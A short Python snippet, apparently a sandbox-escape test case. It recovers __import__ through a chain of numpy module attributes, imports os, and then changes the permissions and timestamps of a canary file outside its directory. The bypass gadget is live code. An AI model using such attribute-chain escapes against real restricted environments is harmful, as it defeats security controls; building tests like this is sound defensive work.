# attempts: os.chmod(0o777) and os.utime on the canary file
# effect: file
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
osm.chmod('@@MARKER_DIR@@/../canary.txt', 0o777)
osm.utime('@@MARKER_DIR@@/../canary.txt', (0, 0))
